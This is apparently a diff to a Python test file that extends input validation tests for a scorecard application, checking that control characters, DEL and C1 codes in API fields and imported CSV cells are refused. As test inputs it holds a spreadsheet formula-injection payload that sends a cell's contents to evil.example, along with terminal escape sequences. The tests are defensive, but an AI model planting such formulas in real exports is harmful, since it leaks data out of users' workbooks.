@@ -1,6 +1,6 @@
 """Texts no column keeps (scorecard.text): a NUL, an unpaired surrogate or another control character
-(U+0001 to U+001F but tab and line breaks), from a form, a query string, a JSON body or an imported
-cell, is refused naming where it is, and nothing changes. A NUL used to reach PostgreSQL (which
+(U+0001 to U+001F but tab and line breaks, DEL, U+0080 to U+009F), from a form, a query string, a JSON
+body or an imported cell, is refused naming where it is, and nothing changes. A NUL used to reach PostgreSQL (which
 refuses it in text), a surrogate the page that shows it (which cannot write it as UTF-8), both ending
 in a 500; a control character made every workbook export holding it fail, and one in front of "="
 hid a formula from the export's neutralising."""
@@ -60,7 +60,10 @@ def test_the_api_refuses_such_texts_with_a_problem_naming_where_they_are(api, ht
             ({"next_step": "\ud800"}, "next_step", "\\ud800"),
             ({"next_step": '\u0001=HYPERLINK("http://evil.example?d="&B2,"Open")'}, "next_step",
              '\\u0001=HYPERLINK("http://evil.example?d="&B2,"Open")'),
-            ({"reason": "late\u001b[31m"}, "reason", "late\\u001b[31m")):
+            ({"reason": "late\u001b[31m"}, "reason", "late\\u001b[31m"),
+            # DEL and the C1 controls: U+009B starts a terminal's escape as ESC [ does, U+0085 is a line break
+            ({"note": "a\u009b31mX\u007f"}, "note", "a\\u009b31mX\\u007f"),
+            ({"reason": "next\u0085line"}, "reason", "next\\u0085line")):
         response = http.patch(url, json=body, headers={**_bearer(officer), "If-Match": f'"{version}"'})
         assert response.status_code == 422, (body, response.get_data(as_text=True)[:300])
         [error] = response.get_json()["errors"]
@@ -105,16 +108,19 @@ def test_a_text_that_shows_nothing_is_blank_and_one_that_shows_something_is_not(
 
 def test_an_imported_cell_holding_a_control_character_is_named_at_the_preview(demo, tmp_path):
     path = tmp_path / "control.csv"
-    path.write_text("component,program,metric,period,value,n,touchpoint\n"
-                    'Benefits Administration,Benefits Call Center,trust,FY2027-Q1,4.1,100,"\x01=HYPERLINK(""x"")"\n')
-    with demo.app_context():
-        before = db.session.scalar(sa.select(sa.func.count()).select_from(Observation))
-        result = run_import(db.session, path)
-        assert result.status == "rejected"
-        [error] = result.errors
-        assert (error["row"], error["column"]) == (2, "touchpoint")
-        assert "control character (U+0001)" in error["message"], error
-        assert db.session.scalar(sa.select(sa.func.count()).select_from(Observation)) == before
+    for cell, code in (('"\x01=HYPERLINK(""x"")"', "U+0001"), ("Apply\x9b31m online", "U+009B"),
+                       ("Apply online\x7f", "U+007F")):
+        path.write_text("component,program,metric,period,value,n,touchpoint\n"
+                        f"Benefits Administration,Benefits Call Center,trust,FY2027-Q1,4.1,100,{cell}\n",
+                        encoding="utf-8")
+        with demo.app_context():
+            before = db.session.scalar(sa.select(sa.func.count()).select_from(Observation))
+            result = run_import(db.session, path)
+            assert result.status == "rejected"
+            [error] = result.errors
+            assert (error["row"], error["column"]) == (2, "touchpoint")
+            assert f"control character ({code})" in error["message"], error
+            assert db.session.scalar(sa.select(sa.func.count()).select_from(Observation)) == before
 
 
 def test_a_form_holding_a_control_character_is_shown_again_naming_the_field(demo, client_as):
